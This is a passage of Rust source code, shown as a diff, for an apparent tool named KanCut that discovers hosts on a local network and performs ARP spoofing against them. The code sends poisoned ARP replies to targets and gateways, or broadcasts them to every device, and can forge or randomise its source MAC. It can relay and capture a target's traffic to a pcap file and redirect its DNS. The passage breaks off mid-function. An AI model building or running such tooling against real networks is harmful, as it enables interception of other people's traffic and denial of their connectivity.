+        .map(|(ip, mac)| (ip.to_string(), format_mac(mac)))
+        .collect();
+    
+    Ok(neighbors)
+}
+
+/// How long to collect replies for each round of mDNS queries
+const MDNS_TIMEOUT: Duration = Duration::from_millis(1500);
+
+/// Discover `.local` names of mDNS responders in the network, as (ip, hostname) pairs
+fn get_mdns_discovery(network: Ipv4Network, local_ip: Ipv4Addr) -> Result<Vec<(String, String)>, String> {
+    let names = mdns::discover_hostnames(local_ip, MDNS_TIMEOUT)?;
+    
+    Ok(names
+        .into_iter()
+        .filter(|(ip, _)| network.contains(*ip))
+        .map(|(ip, hostname)| (ip.to_string(), hostname))
+        .collect())
+}
+
+/// How long to wait for a NetBIOS node status reply
+const NETBIOS_TIMEOUT: Duration = Duration::from_millis(300);
+
+/// How long a reverse DNS lookup may take before the host is left unnamed;
+/// a dead DNS server otherwise stalls each lookup for seconds
+const DNS_LOOKUP_TIMEOUT: Duration = Duration::from_millis(500);
+
+/// Resolve the names of `ips` on up to `workers` threads. Hosts without a
+/// name are missing from the result.
+fn resolve_hostnames(
+    ips: Vec<String>,
+    workers: usize,
+    dns_server: Option<IpAddr>,
+    scan: &ScanHandle,
+) -> HashMap<String, String> {
+    let hostnames = Arc::new(Mutex::new(HashMap::new()));
+    let results = hostnames.clone();
+    
+    run_worker_pool(ips, workers, scan, move |ip| {
+        if let Some(hostname) = resolve_hostname(&ip, dns_server) {
+            if let Ok(mut results) = results.lock() {
+                results.insert(ip, hostname);
+            }
+        }
+    });
+    
+    hostname_cache::save();
+    
+    let hostnames = hostnames.lock().map(|hostnames| hostnames.clone()).unwrap_or_default();
+    hostnames
+}
+
+/// Resolve a device name via reverse DNS, retrying against `dns_server` when
+/// given, then falling back to NetBIOS for LAN hosts, unless it was resolved
+/// recently. Call `hostname_cache::save` afterwards to keep new names for
+/// later runs.
+fn resolve_hostname(ip: &str, dns_server: Option<IpAddr>) -> Option<String> {
+    if let Some(hostname) = hostname_cache::lookup(ip) {
+        return Some(hostname);
+    }
+    
+    let hostname = resolve_dns_hostname(ip, None)
+        .or_else(|| dns_server.and_then(|server| resolve_dns_hostname(ip, Some(server))))
+        .or_else(|| resolve_netbios_hostname(ip))?;
+    hostname_cache::record(ip, &hostname);
+    Some(hostname)
+}
+
+fn resolve_netbios_hostname(ip: &str) -> Option<String> {
+    let ip: Ipv4Addr = ip.parse().ok()?;
+    
+    match netbios::query_workstation_name(ip, NETBIOS_TIMEOUT) {
+        Ok(name) => name,
+        Err(e) => {
+            eprintln!("NetBIOS lookup for {} failed: {}", ip, e);
+            None
+        }
+    }
+}
+
+/// Reverse lookup through the system resolver, or through `server` when given
+fn resolve_dns_hostname(ip: &str, server: Option<IpAddr>) -> Option<String> {
+    let mut command = Command::new("nslookup");
+    command.arg(ip);
+    if let Some(server) = server {
+        command.arg(server.to_string());
+    }
+    let mut child = command
+        .stdout(Stdio::piped())
+        .stderr(Stdio::null())
+        .spawn()
+        .ok()?;
+    
+    let deadline = Instant::now() + DNS_LOOKUP_TIMEOUT;
+    loop {
+        match child.try_wait() {
+            Ok(Some(_)) => break,
+            Ok(None) if Instant::now() < deadline => thread::sleep(Duration::from_millis(10)),
+            _ => {
+                let _ = child.kill();
+                let _ = child.wait();
+                return None;
+            }
+        }
+    }
+    
+    let output = child.wait_with_output().ok()?;
+    let output_str = String::from_utf8(output.stdout).ok()?;
+    
+    for line in output_str.lines() {
+        if line.contains("name =") {
+            if let Some(name) = line.split("name =").nth(1) {
+                return Some(name.trim().trim_end_matches('.').to_string());
+            }
+        }
+    }
+    
+    None
+}
+
+fn get_vendor_from_mac(mac: &str) -> Option<String> {
+    oui::lookup(mac)
+}
+
+/// Activate the cached OUI database, or the embedded one if none was downloaded yet
+pub fn load_oui_database() -> usize {
+    oui::load()
+}
+
+/// Download the IEEE OUI registry (or `url`) and cache it for vendor lookups.
+/// If this fails the current table, cached or embedded, stays in use.
+pub fn update_oui_database(url: Option<String>) -> Result<usize, AppError> {
+    let url = url.unwrap_or_else(|| oui::DEFAULT_OUI_URL.to_string());
+    oui::update(&url)
+        .map_err(|e| network_error("Failed to update vendor database", Some(&e)))
+}
+
+/// Drop the vendors remembered from earlier scans; they are looked up again on
+/// the next scan. Returns the number of cached vendors.
+pub fn clear_vendor_cache() -> usize {
+    oui::clear_cache()
+}
+
+/// Forget the hostnames remembered from earlier scans, so every host is
+/// looked up again. Returns the number of cached names.
+pub fn clear_hostname_cache() -> Result<usize, AppError> {
+    hostname_cache::clear()
+        .map_err(|e| system_error("Failed to clear hostname cache", Some(&e)))
+}
+
+/// Check everything KanCut needs from the system before it can scan or spoof:
+/// privileges, a usable interface and the external commands it runs
+pub fn system_healthcheck() -> HealthReport {
+    let mut report = HealthReport {
+        ready: true,
+        checks: Vec::new(),
+    };
+    
+    report.record(
+        "privileges",
+        require_elevation("spoof ARP traffic").map(|_| "Running with administrator privileges".to_string()),
+        Platform::ELEVATION_HINT,
+    );
+    
+    let usable_interfaces = get_interfaces().and_then(|interfaces| {
+        let usable: Vec<String> = interfaces.into_iter()
+            .filter(|interface| interface.is_up && !interface.is_virtual)
+            .map(|interface| interface.name)
+            .collect();
+        if usable.is_empty() {
+            return Err(interface_error("No connected physical network interface found", None));
+        }
+        Ok(format!("Usable interfaces: {}", usable.join(", ")))
+    });
+    report.record(
+        "interfaces",
+        usable_interfaces,
+        "Connect to a network with an Ethernet or Wi-Fi adapter that has an IPv4 address",
+    );
+    
+    for command in Platform::REQUIRED_COMMANDS {
+        let found = if command_exists(command) {
+            Ok(format!("{} is available", command))
+        } else {
+            Err(system_error(&format!("Required command {} was not found", command), None))
+        };
+        report.record(
+            &format!("command:{}", command),
+            found,
+            &format!("Install {} or add its directory to PATH", command),
+        );
+    }
+    
+    report
+}
+
+/// Run every check `start_spoofing` performs, without sending packets or storing a session
+pub fn preflight_spoofing(
+    target_ip: &str,
+    gateway_ip: &str,
+    interface_name: &str,
+    options: &SpoofingOptions,
+) -> PreflightReport {
+    let mut report = PreflightReport {
+        passed: true,
+        checks: Vec::new(),
+        target_mac: None,
+        gateway_mac: None,
+    };
+    
+    report.record("privileges", require_elevation("spoof ARP traffic"), "Running with administrator privileges");
+    report.record("options", options.validate(), "Spoofing options are valid");
+    
+    let target_addr = report.record(
+        "target_ip",
+        parse_host_ip(target_ip, "target IP"),
+        "Target IP is valid",
+    );
+    let gateway_addr = report.record(
+        "gateway_ip",
+        parse_host_ip(gateway_ip, "gateway IP"),
+        "Gateway IP is valid",
+    );
+    
+    if let (Some(target_addr), Some(gateway_addr)) = (target_addr, gateway_addr) {
+        report.record(
+            "subnet",
+            get_interface_network(interface_name, None)
+                .and_then(|(_, network)| validate_spoofing_targets(interface_name, network, target_addr, gateway_addr)),
+            "Target and gateway are on the interface's subnet",
+        );
+    }
+    
+    report.target_mac = report.record(
+        "target_mac",
+        resolve_mac(target_ip, interface_name)
+            .map_err(|e| spoofing_error("Failed to resolve target MAC", Some(&e))),
+        "Target answered ARP",
+    );
+    report.gateway_mac = report.record(
+        "gateway_mac",
+        resolve_mac(gateway_ip, interface_name)
+            .map_err(|e| spoofing_error("Failed to resolve gateway MAC", Some(&e))),
+        "Gateway answered ARP",
+    );
+    
+    if options.forward_traffic {
+        report.record(
+            "ip_forwarding",
+            Platform::is_ip_forwarding_enabled()
+                .map_err(|e| system_error("Failed to query IP forwarding", Some(&e))),
+            "IP forwarding can be managed",
+        );
+    }
+    
+    report
+}
+
+/// Probe what an interface can be used for before a session is started on it.
+/// Nothing reaches the network: raw injection is only opened, and the static
+/// ARP fallback is tried on an unused address, see `static_arp_probe_address`.
+pub fn test_interface(interface_name: &str) -> Result<InterfaceCapabilities, AppError> {
+    let (interface, network) = get_interface_network(interface_name, None)?;
+    
+    let is_elevated = is_elevated();
+    let arp_entries = match read_arp_table() {
+        Ok(entries) => Some(entries),
+        Err(e) => {
+            eprintln!("Cannot read the ARP table: {}", e);
+            None
+        }
+    };
+    
+    let method = match RawArpSender::open(&interface.mac) {
+        Ok(_) => Some(SpoofMethod::RawFrames),
+        Err(e) => {
+            eprintln!("Raw packet injection unavailable on {}: {}", interface_name, e);
+            // Static entries need elevation; don't make the OS refuse one just to find out
+            // Without the ARP cache no address is known to be unused, so nothing is probed
+            let probe_ip = match arp_entries.as_deref() {
+                Some(entries) if is_elevated => static_arp_probe_address(interface_name, network, entries),
+                _ => None,
+            };
+            match probe_ip {
+                Some(probe_ip) => {
+                    match send_static_arp_spoof(&SystemRunner, interface_name, &interface.mac, probe_ip) {
+                        Ok(()) => {
+                            let _ = Platform::delete_arp_entry(interface_name, probe_ip);
+                            Some(SpoofMethod::StaticArp)
+                        }
+                        Err(e) => {
+                            eprintln!("Static ARP entries unavailable on {}: {}", interface_name, e);
+                            None
+                        }
+                    }
+                }
+                None => None,
+            }
+        }
+    };
+    
+    Ok(InterfaceCapabilities {
+        can_read_arp: arp_entries.is_some(),
+        can_send_arp: method.is_some(),
+        is_elevated,
+        method,
+    })
+}
+
+/// Address for `test_interface` to pin a static ARP entry on: the highest host
+/// address of the subnet missing from the ARP cache, so no traffic of this
+/// machine depends on it. The own IP and the gateway are never used.
+fn static_arp_probe_address(
+    interface_name: &str,
+    network: Ipv4Network,
+    arp_entries: &[ArpEntry],
+) -> Option<Ipv4Addr> {
+    let gateway = get_default_gateway(interface_name)
+        .ok()
+        .and_then(|gateway| gateway.parse::<Ipv4Addr>().ok());
+    
+    (u32::from(network.network()) + 1..u32::from(network.broadcast()))
+        .rev()
+        .map(Ipv4Addr::from)
+        .filter(|ip| *ip != network.ip() && Some(*ip) != gateway)
+        .find(|ip| !arp_entries.iter().any(|entry| entry.ip == ip.to_string()))
+}
+
+/// How many target MACs `start_spoof_all` resolves at once
+const SPOOF_ALL_RESOLVE_WORKERS: usize = 16;
+
+/// Sessions allowed to run at once unless changed with `set_max_concurrent_sessions`
+pub const DEFAULT_MAX_CONCURRENT_SESSIONS: usize = 64;
+
+static MAX_CONCURRENT_SESSIONS: AtomicUsize = AtomicUsize::new(DEFAULT_MAX_CONCURRENT_SESSIONS);
+
+/// Most sessions that may be running or paused at once
+pub fn max_concurrent_sessions() -> usize {
+    MAX_CONCURRENT_SESSIONS.load(Ordering::Relaxed)
+}
+
+/// Change the session limit for the rest of the run. Sessions already above
+/// the new limit keep running; only new ones are refused.
+pub fn set_max_concurrent_sessions(limit: usize) -> Result<usize, AppError> {
+    if limit == 0 {
+        return Err(config_error("The session limit must be at least 1", None));
+    }
+    
+    MAX_CONCURRENT_SESSIONS.store(limit, Ordering::Relaxed);
+    Ok(limit)
+}
+
+/// Make sure target and gateway are distinct hosts on `network`, the interface's subnet
+fn validate_spoofing_targets(
+    interface_name: &str,
+    network: Ipv4Network,
+    target_addr: Ipv4Addr,
+    gateway_addr: Ipv4Addr,
+) -> Result<(), AppError> {
+    if target_addr == gateway_addr {
+        return Err(config_error(
+            &format!("Target {} is the same address as the gateway", target_addr),
+            None,
+        ));
+    }
+    if target_addr == network.ip() {
+        return Err(config_error(
+            &format!("Target {} is this machine's own address on {}", target_addr, interface_name),
+            None,
+        ));
+    }
+    
+    for (role, addr) in [("Target", target_addr), ("Gateway", gateway_addr)] {
+        if !network.contains(addr) {
+            return Err(config_error(
+                &format!("{} {} is not on the {} network of interface {}", role, addr, network, interface_name),
+                None,
+            ));
+        }
+        // /31 point-to-point links use both addresses for hosts
+        if network.prefix() < 31 && (addr == network.network() || addr == network.broadcast()) {
+            return Err(config_error(
+                &format!("{} {} is the network or broadcast address of {}", role, addr, network),
+                None,
+            ));
+        }
+    }
+    
+    Ok(())
+}
+
+/// Start poisoning `target_ip` against every gateway in `gateway_ips`, for
+/// networks where the target may route through more than one
+pub fn start_spoofing(
+    target_ip: String,
+    gateway_ips: Vec<String>,
+    interface_name: String,
+    options: SpoofingOptions,
+    state: State<SpoofingSessions>,
+    app: AppHandle,
+) -> Result<String, AppError> {
+    require_elevation("spoof ARP traffic")?;
+    
+    if options.dry_run {
+        return Err(config_error("Dry runs do not start a session", Some("Use preflight_spoofing instead")));
+    }
+    
+    let session_id = {
+        let mut sessions = state.0.lock()
+            .map_err(|e| system_error("Failed to access spoofing sessions", Some(&e.to_string())))?;
+        
+        // Starting twice (e.g. a double click) should not double the ARP traffic
+        if !options.force {
+            if let Some(existing_id) = sessions.find_running(&target_ip, &interface_name) {
+                println!("Session {} already targets {} on {}, reusing it", existing_id, target_ip, interface_name);
+                return Ok(existing_id);
+            }
+        }
+        // Refuse before anything is set up for the session
+        sessions.reserve(&target_ip, &interface_name)?
+    };
+    
+    let prepared = prepare_single_session(session_id.clone(), &target_ip, &gateway_ips, &interface_name, &options, &state.0);
+    
+    let mut sessions = state.0.lock()
+        .map_err(|e| system_error("Failed to access spoofing sessions", Some(&e.to_string())))?;
+    sessions.release(&session_id);
+    let (session_info, target) = prepared?;
+    sessions.insert(session_id.clone(), session_info);
+    persist_sessions(&sessions);
+    emit_session_event(&app, "session-started", &sessions, &session_id);
+    drop(sessions);
+    
+    // Start spoofing thread
+    let sessions = state.0.clone();
+    thread::spawn(move || {
+        perform_arp_spoofing(vec![target], interface_name, options, sessions, app);
+    });
+    
+    Ok(session_id)
+}
+
+/// What every session started by one `start_spoofing` or `start_spoof_all`
+/// call has in common, looked up once rather than once per target
+struct SpoofSetup {
+    network: Ipv4Network,
+    interface_mac: String,
+    method: SpoofMethod,
+}
+
+impl SpoofSetup {
+    /// Validate the options against the interface and find out how poisoned
+    /// replies can be sent from it. Nothing on the system is changed.
+    fn new(interface_name: &str, options: &SpoofingOptions) -> Result<Self, AppError> {
+        options.validate()?;
+        let (interface, network) = get_interface_network(interface_name, None)?;
+        let interface_mac = interface.mac;
+        
+        // Frames addressed to another MAC never reach the OS, so there is nothing to relay
+        let foreign_source = match &options.source_mac {
+            None => false,
+            Some(mac) if mac.eq_ignore_ascii_case(RANDOM_SOURCE_MAC) => true,
+            Some(mac) => normalize_mac(mac).as_deref() != Some(interface_mac.as_str()),
+        };
+        if foreign_source
+            && (options.forward_traffic || options.capture_path.is_some() || options.intercept == InterceptMode::DnsOnly)
+        {
+            return Err(config_error(
+                "Traffic forwarding, capture and DNS-only interception need the interface's own source MAC",
+                Some("Turn off forwarding to spoof from another MAC"),
+            ));
+        }
+        
+        // Prefer raw frames; without a capture device every send goes through
+        // static ARP entries, which managed machines may refuse, so find out now
+        // instead of in the spoofing loop
+        let method = match RawArpSender::open(&interface_mac) {
+            Ok(_) => SpoofMethod::RawFrames,
+            Err(e) => {
+                eprintln!("Warning: raw packet injection unavailable, falling back to static ARP entries: {}", e);
+                if options.strategy == SpoofStrategy::GratuitousBroadcast {
+                    return Err(spoofing_error(
+                        "Gratuitous ARP broadcasts need raw packet injection",
+                        Some(&e),
+                    ));
+                }
+                SpoofMethod::StaticArp
+            }
+        };
+        
+        Ok(Self { network, interface_mac, method })
+    }
+    
+    /// MAC a new session sends its poisoned replies from
+    fn source_mac(&self, options: &SpoofingOptions) -> Result<String, AppError> {
+        match &options.source_mac {
+            None => Ok(self.interface_mac.clone()),
+            Some(mac) if mac.eq_ignore_ascii_case(RANDOM_SOURCE_MAC) => Ok(random_local_mac()),
+            Some(mac) => normalize_mac(mac)
+                .ok_or_else(|| config_error("Invalid source MAC", Some(mac))),
+        }
+    }
+}
+
+/// Turn IP forwarding on for sessions relaying traffic. Returns whether it
+/// was off, in which case the first session started owns turning it back off.
+fn enable_forwarding(options: &SpoofingOptions) -> Result<bool, AppError> {
+    if !options.forward_traffic {
+        return Ok(false);
+    }
+    
+    let forwarding_on = Platform::is_ip_forwarding_enabled()
+        .map_err(|e| system_error("Failed to query IP forwarding", Some(&e)))?;
+    if forwarding_on {
+        return Ok(false);
+    }
+    Platform::set_ip_forwarding(true)
+        .map_err(|e| system_error("Failed to enable IP forwarding", Some(&e)))?;
+    Ok(true)
+}
+
+/// Turn forwarding enabled by `enable_forwarding` back off when no session
+/// was started to own it. A session started meanwhile may rely on it, as in
+/// `stop_spoofing`. Must be called without holding the sessions lock.
+fn abandon_forwarding(sessions: &Mutex<SessionTable>, enabled_forwarding: bool) {
+    let disable_forwarding = match sessions.lock() {
+        Ok(mut sessions) => release_forwarding(&mut sessions, enabled_forwarding),
+        Err(_) => enabled_forwarding,
+    };
+    if disable_forwarding {
+        if let Err(e) = Platform::set_ip_forwarding(false) {
+            eprintln!("Failed to disable IP forwarding: {}", e);
+        }
+    }
+}
+
+/// Validate a `start_spoofing` request, resolve its MACs and set up its
+/// session, including the traffic monitor.
+fn prepare_single_session(
+    session_id: String,
+    target_ip: &str,
+    gateway_ips: &[String],
+    interface_name: &str,
+    options: &SpoofingOptions,
+    sessions: &Mutex<SessionTable>,
+) -> Result<(SpoofingSessionInfo, SpoofTarget), AppError> {
+    let setup = SpoofSetup::new(interface_name, options)?;
+    
+    // Validate IP addresses
+    let target_addr = parse_host_ip(target_ip, "target IP")?;
+    let mut gateway_addrs: Vec<Ipv4Addr> = Vec::new();
+    for gateway_ip in gateway_ips {
+        let gateway_addr = parse_host_ip(gateway_ip, "gateway IP")?;
+        validate_spoofing_targets(interface_name, setup.network, target_addr, gateway_addr)?;
+        if !gateway_addrs.contains(&gateway_addr) {
+            gateway_addrs.push(gateway_addr);
+        }
+    }
+    if gateway_addrs.is_empty() {
+        return Err(config_error("At least one gateway IP is required", None));
+    }
+    
+    // Learn the legitimate mappings before poisoning so they can be restored
+    let target_mac = resolve_mac_excluding(target_addr, interface_name, &setup.interface_mac)
+        .map_err(|e| spoofing_error("Failed to resolve target MAC", Some(&e)))?;
+    let mut gateways = Vec::with_capacity(gateway_addrs.len());
+    for gateway_addr in gateway_addrs {
+        let gateway_mac = resolve_mac_excluding(gateway_addr, interface_name, &setup.interface_mac)
+            .map_err(|e| spoofing_error(&format!("Failed to resolve MAC of gateway {}", gateway_addr), Some(&e)))?;
+        gateways.push((gateway_addr, gateway_mac));
+    }
+    
+    // Open the capture file up front so a bad path fails before anything is changed
+    let capture = match &options.capture_path {
+        Some(_) if !cfg!(feature = "raw-packets") => {
+            return Err(config_error(
+                "Packet capture requires the raw-packets feature",
+                Some("Rebuild with `--features raw-packets`"),
+            ));
+        }
+        Some(path) => Some(PcapWriter::create(std::path::Path::new(path), options.capture_max_bytes)
+            .map_err(|e| system_error("Failed to create capture file", Some(&e)))?),
+        None => None,
+    };
+    
+    // Relay intercepted traffic so the target keeps its connectivity
+    let enabled_forwarding = enable_forwarding(options)?;
+    let prepared = prepare_session(
+        session_id,
+        (target_addr, target_mac),
+        gateways,
+        interface_name,
+        options,
+        &setup,
+        enabled_forwarding,
+    );
+    let (mut session_info, target) = match prepared {
+        Ok(prepared) => prepared,
+        Err(e) => {
+            abandon_forwarding(sessions, enabled_forwarding);
+            return Err(e);
+        }
+    };
+    
+    // Count, and optionally save, what the target pushes through us while we relay its traffic
+    if options.forward_traffic {
+        let local_mac = setup.interface_mac;
+        let counters = session_info.traffic.clone();
+        let monitor_stop_flag = session_info.stop_flag.clone();
+        session_info.monitor_thread = Some(thread::spawn(move || {
+            if let Err(e) = traffic::monitor_target(&local_mac, target_addr, counters, capture, monitor_stop_flag) {
+                eprintln!("Traffic monitoring for {} unavailable: {}", target_addr, e);
+            }
+        }));
+    }
+    
+    Ok((session_info, target))
+}
+
+/// Set up everything one session needs short of poisoning: its source MAC,
+/// DNS redirect and log. The caller resolves the MACs, handles forwarding
+/// and starts the traffic monitor. The target is handed to
+/// `perform_arp_spoofing` once the session is stored.
+fn prepare_session(
+    session_id: String,
+    (target_addr, target_mac): (Ipv4Addr, String),
+    gateways: Vec<(Ipv4Addr, String)>,
+    interface_name: &str,
+    options: &SpoofingOptions,
+    setup: &SpoofSetup,
+    enabled_forwarding: bool,
+) -> Result<(SpoofingSessionInfo, SpoofTarget), AppError> {
+    let source_mac = setup.source_mac(options)?;
+    
+    // Managed machines may refuse static entries, so find out now instead of in the spoofing loop
+    if setup.method == SpoofMethod::StaticArp {
+        send_static_arp_spoof(&SystemRunner, interface_name, &source_mac, target_addr)?;
+        let _ = Platform::delete_arp_entry(interface_name, target_addr);
+    }
+    
+    let mut log = if options.session_log {
+        Some(SessionLog::open(&session_id)
+            .map_err(|e| system_error("Failed to open session log", Some(&e)))?)
+    } else {
+        None
+    };
+    
+    if options.intercept == InterceptMode::DnsOnly {
+        Platform::redirect_dns(interface_name, target_addr, true)
+            .map_err(|e| system_error("Failed to redirect DNS traffic", Some(&e)))?;
+    }
+    
+    let target_ip = target_addr.to_string();
+    let gateway_ips: Vec<String> = gateways.iter().map(|(addr, _)| addr.to_string()).collect();
+    let gateway_macs: Vec<String> = gateways.iter().map(|(_, mac)| mac.clone()).collect();
+    
+    // Create session
+    let session = SpoofingSession {
+        id: session_id.clone(),
+        target_ip: target_ip.clone(),
+        gateway_ip: gateway_ips[0].clone(),
+        gateway_ips,
+        interface: interface_name.to_string(),
+        target_mac: Some(target_mac.clone()),
+        gateway_mac: gateway_macs.first().cloned(),
+        is_active: true,
+        state: SessionState::Active,
+        packets_sent: 0,
+        forwarding: options.forward_traffic,
+        interval_ms: options.interval_ms,
+        packets_per_round: options.packets_per_round,
+        intercept: options.intercept,
+        method: setup.method,
+        strategy: options.strategy,
+        capture_path: options.capture_path.clone(),
+        log_path: log.as_ref().map(|_| session_log::path(&session_id).display().to_string()),
+        source_mac: source_mac.clone(),
+        started_at: now_millis(),
+        stopped_at: None,
+        uptime_secs: 0,
+        packets_per_second: 0.0,
+        bytes_up: 0,
+        bytes_down: 0,
+    };
+    
+    let stop_flag = Arc::new(Mutex::new(false));
+    let traffic = Arc::new(TrafficCounters::default());
+    
+    if let Some(log) = log.as_mut() {
+        log.write(&format!(
+            "Started spoofing {} ({}) for {} on {} from {}, {:?} via {:?}",
+            target_ip,
+            target_mac,
+            session.gateway_ips.join(", "),
+            interface_name,
+            session.source_mac,
+            options.strategy,
+            setup.method,
+        ));
+    }
+    
+    let (done, spoof_done) = mpsc::channel();
+    let target = SpoofTarget {
+        session_id,
+        target_ip: target_addr,
+        target_mac: target_mac.clone(),
+        gateways,
+        source_mac,
+        stop_flag: stop_flag.clone(),
+        packet_count: 0,
+        reported_packets: 0,
+        restored_for_pause: false,
+        log,
+        _done: done,
+    };
+    
+    let session_info = SpoofingSessionInfo {
+        session,
+        stop_flag,
+        enabled_forwarding,
+        traffic,
+        target_mac,
+        gateway_macs,
+        spoof_done: Some(spoof_done),
+        monitor_thread: None,
+    };
+    
+    Ok((session_info, target))
+}
+
+/// One session's target as poisoned by `perform_arp_spoofing`
+struct SpoofTarget {
+    session_id: String,
+    target_ip: Ipv4Addr,
+    target_mac: String,
+    gateways: Vec<(Ipv4Addr, String)>,
+    /// MAC the poisoned replies claim to come from
+    source_mac: String,
+    stop_flag: Arc<Mutex<bool>>,
+    packet_count: u32,
+    /// `packet_count` as last sent to the UI with `session-updated`
+    reported_packets: u32,
+    restored_for_pause: bool,
+    /// The session's own log, with `session_log`
+    log: Option<SessionLog>,
+    /// Dropped with the target once its ARP entries are restored, which wakes
+    /// whoever waits on the session's `spoof_done`
+    _done: mpsc::Sender<()>,
+}
+
+impl SpoofTarget {
+    fn is_stopped(&self) -> bool {
+        self.stop_flag.lock().map(|should_stop| *should_stop).unwrap_or(false)
+    }
+    
+    fn log(&mut self, message: &str) {
+        if let Some(log) = self.log.as_mut() {
+            log.write(message);
+        }
+    }
+    
+    /// Send one round of poisoned replies, each `packets_per_round` times.
+    /// Fails only when the OS refuses the sends.
+    fn poison(
+        &mut self,
+        raw_sender: &mut Option<RawArpSender>,
+        interface_name: &str,
+        options: &SpoofingOptions,
+        rng: &mut StdRng,
+    ) -> Result<(), AppError> {
+        for (gateway_ip, gateway_mac) in &self.gateways {
+            let mut sends = match options.strategy {
+                // Tell the target that we are this gateway, and this gateway that we are the target
+                SpoofStrategy::Unicast => vec![
+                    (*gateway_ip, self.target_ip, Some(self.target_mac.as_str())),
+                    (self.target_ip, *gateway_ip, Some(gateway_mac.as_str())),
+                ],
+                // Tell everyone that we are this gateway
+                SpoofStrategy::GratuitousBroadcast => vec![
+                    (*gateway_ip, *gateway_ip, Some(arp_packet::BROADCAST_MAC)),
+                ],
+            };
+            if options.shuffle_sends && rng.gen::<bool>() {
+                sends.reverse();
+            }
+            
+            for repeat in 0..options.packets_per_round {
+                if repeat > 0 {
+                    thread::sleep(PACKET_REPEAT_GAP);
+                }
+                for &(spoof_ip, receiver_ip, receiver_mac) in &sends {
+                    match send_arp_spoof(raw_sender, interface_name, &self.source_mac, spoof_ip, receiver_ip, receiver_mac) {
+                        Ok(()) => {
+                            self.packet_count += 1;
+                            if let Some(log) = self.log.as_mut() {
+                                log.write(&format!("Told {} that {} is at {}", receiver_ip, spoof_ip, self.source_mac));
+                            }
+                        }
+                        // Refused by the OS: every further send would fail the same way
+                        Err(e) if e.code() == ErrorCode::PermissionError => return Err(e),
+                        Err(e) => {
+                            eprintln!("Failed to send ARP spoof to {}: {}", receiver_ip, e);
+                            if let Some(log) = self.log.as_mut() {
+                                log.write(&format!("Failed to send ARP spoof to {}: {}", receiver_ip, e));
+                            }
+                        }
+                    }
+                }
+            }
+        }
+        
+        Ok(())
+    }
+    
+    /// Re-announce the real mappings to the target and its gateways
+    fn restore(&self, raw_sender: &mut Option<RawArpSender>, interface_name: &str, strategy: SpoofStrategy) {
+        for (gateway_ip, gateway_mac) in &self.gateways {
+            if strategy == SpoofStrategy::GratuitousBroadcast {
+                restore_gateway_broadcast(raw_sender, *gateway_ip, gateway_mac);
+            }
+            restore_arp_entries(
+                raw_sender,
+                interface_name,
+                self.target_ip,
+                Some(&self.target_mac),
+                *gateway_ip,
+                Some(gateway_mac),
+            );
+        }
+    }
+}
+
+/// Poison every target in rounds from this one thread until all of their
+/// sessions are stopped. `start_spoofing` passes a single target;
+/// `start_spoof_all` passes the whole network, which would otherwise take a
+/// thread per device.
+fn perform_arp_spoofing(
+    mut targets: Vec<SpoofTarget>,
+    interface_name: String,
+    options: SpoofingOptions,
+    sessions: Arc<Mutex<SessionTable>>,
+    app: AppHandle,
+) {
+    // Get local MAC address for the interface
+    let local_mac = match get_interface_mac(&interface_name) {
+        Ok(mac) => mac,
+        Err(e) => {
+            eprintln!("Failed to get interface MAC: {}", e);
+            for target in targets {
+                finish_spoof_target(target, &mut None, &interface_name, &options, Some(e.clone()), &sessions, &app);
+            }
+            return;
+        }
+    };
+    
+    // Prefer real ARP frames on the wire, falling back to ARP table commands
+    let mut raw_sender = match RawArpSender::open(&local_mac) {
+        Ok(sender) => Some(sender),
+        Err(e) => {
+            eprintln!("Warning: raw packet injection unavailable, using arp commands: {}", e);
+            None
+        }
+    };
+    
+    // The device checked by start_spoofing may have gone away, or come up, since
+    let method = if raw_sender.is_some() { SpoofMethod::RawFrames } else { SpoofMethod::StaticArp };
+    if let Ok(mut sessions_guard) = sessions.lock() {
+        for target in &targets {
+            let changed = match sessions_guard.get_mut(&target.session_id) {
+                Some(session_info) if session_info.session.method != method => {
+                    session_info.session.method = method;
+                    true
+                }
+                _ => false,
+            };
+            if changed {
+                emit_session_event(&app, "session-updated", &sessions_guard, &target.session_id);
+            }
+        }
+    }
+    
+    let mut rng = match options.jitter_seed {
+        Some(seed) => StdRng::seed_from_u64(seed),
+        None => StdRng::from_entropy(),
+    };
+    
+    let mut last_interface_check = Instant::now();
+    let mut last_count_report = Instant::now();
+    // Set when the sessions can't go on: their interface is gone or sends are refused
+    let mut fatal_error = None;
+    
+    // Static ARP entries only change this machine's cache and cannot be broadcast
+    if options.strategy == SpoofStrategy::GratuitousBroadcast && raw_sender.is_none() {
+        eprintln!("Stopping {} sessions: raw packet injection unavailable for broadcasts", targets.len());
+        fatal_error = Some(spoofing_error("Gratuitous ARP broadcasts need raw packet injection", None));
+    }
+    
+    while fatal_error.is_none() {
+        // Restore the targets of stopped sessions and carry on with the rest
+        let (stopped, running): (Vec<_>, Vec<_>) = targets.into_iter().partition(SpoofTarget::is_stopped);
+        targets = running;
+        for target in stopped {
+            finish_spoof_target(target, &mut raw_sender, &interface_name, &options, None, &sessions, &app);
+        }
+        if targets.is_empty() {
+            break;
+        }
+        
+        // An unplugged adapter or suspended laptop would otherwise fail every send forever
+        if last_interface_check.elapsed() >= INTERFACE_CHECK_INTERVAL {
+            last_interface_check = Instant::now();
+            if let Err(e) = check_interface(&interface_name, &local_mac) {
+                eprintln!("Stopping {} sessions on {}: {}", targets.len(), interface_name, e);
+                fatal_error = Some(e);
+                break;
+            }
+        }
+        
+        // Pick up every session's current state and interval under one lock;
+        // rounds follow the shortest interval among the sessions
+        let mut interval_ms: Option<u64> = None;
+        let states: Vec<SessionState> = match sessions.lock() {
+            Ok(sessions_guard) => targets.iter()
+                .map(|target| match sessions_guard.get(&target.session_id) {
+                    Some(session_info) => {
+                        let session_interval = session_info.session.interval_ms;
+                        interval_ms = Some(interval_ms.map_or(session_interval, |ms| ms.min(session_interval)));
+                        session_info.session.state
+                    }
+                    None => SessionState::Active,
+                })
+                .collect(),
+            Err(_) => vec![SessionState::Active; targets.len()],
+        };
+        
+        for (target, state) in targets.iter_mut().zip(states) {
+            if state == SessionState::Paused {
+                // Let the target through while paused instead of waiting for its cache to expire
+                if !target.restored_for_pause {
+                    target.restore(&mut raw_sender, &interface_name, options.strategy);
+                    target.restored_for_pause = true;
+                    target.log("Paused, ARP entries restored");
+                    
+                    if let Ok(sessions_guard) = sessions.lock() {
+                        emit_session_event(&app, "session-updated", &sessions_guard, &target.session_id);
+                    }
+                }
+                continue;
+            }
+            if target.restored_for_pause {
+                target.restored_for_pause = false;
+                target.log("Resumed");
+            }
+            
+            if let Err(e) = target.poison(&mut raw_sender, &interface_name, &options, &mut rng) {
+                fatal_error = Some(e);
+                break;
